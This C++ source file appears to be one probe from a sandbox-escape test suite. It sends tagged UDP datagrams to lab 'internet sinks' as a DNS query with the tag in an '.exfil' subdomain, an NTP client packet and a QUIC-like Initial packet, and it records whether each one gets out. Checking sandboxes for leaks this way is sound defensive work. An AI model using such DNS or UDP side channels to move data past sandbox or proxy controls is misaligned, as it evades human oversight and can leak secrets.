// net.udp_direct — UDP datagrams straight to internet sinks on 53 (a DNS
// query), 123 (an NTP client packet) and 443 (a QUIC-like long-header
// packet), over IPv4 and IPv6, each carrying the tag. UDP is often forgotten
// by proxy-only sandboxes.
#include "../../lab/lab_plan.hpp"
#include "../probe.hpp"
#include "../support/dns.hpp"
#include "../support/net.hpp"

#include <string>

namespace lab = bottle::escape::lab;
namespace support = bottle::escape::probe::support;
namespace dns = bottle::escape::probe::support::dns;

BOTTLE_PROBE(net_udp_direct, "net.udp_direct", "UDP datagrams to internet sinks on 53, 123 and 443 (QUIC-like)",
             bottle::escape::probe::scoring::sink, "udp4", "udp6") {
    const std::string dns_query =
        dns::build_query(dns::random_id(), {{ctx.tag + ".exfil." + std::string(lab::zone), dns::type_a, 1}});
    std::string ntp(48, '\0');
    ntp[0] = 0x23;  // LI 0, version 4, mode 3 (client)
    ntp += ctx.tag;  // trailing bytes: an extension-field-sized blob with the tag
    std::string quic("\xc3\x00\x00\x00\x01", 5);  // long header, Initial, QUIC v1
    quic += static_cast<char>(8);
    quic += "bbxdcid0";
    quic += static_cast<char>(0);
    quic += ctx.tag;
    quic.resize(std::max<std::size_t>(quic.size(), 1200), '\0');  // clients pad Initials to 1200 bytes
    struct shot {
        std::uint16_t port;
        const std::string* payload;
        const char* what;
    };
    const shot shots[] = {{53, &dns_query, "DNS query A " }, {123, &ntp, "NTP client packet"}, {443, &quic, "QUIC-like Initial"}};
    for (std::string_view ip : {lab::internet_v4, lab::internet_v6}) {
        for (const auto& s : shots) {
            const auto r = support::udp_exchange(ip, s.port, *s.payload, 250);
            const std::string target = ip.find(':') != std::string_view::npos ? "[" + std::string(ip) + "]" : std::string(ip);
            rep.record(ip == lab::internet_v4 ? "udp4" : "udp6",
                       "udp send " + target + ":" + std::to_string(s.port) + " " + s.what +
                           (s.port == 53 ? ctx.tag + ".exfil.lab.test" : " with the tag"),
                       r.outcome, r.made, r.sent);
            if (!r.reply.empty()) rep.observe(target + ":" + std::to_string(s.port) + " replied: " + r.reply);
        }
    }
}
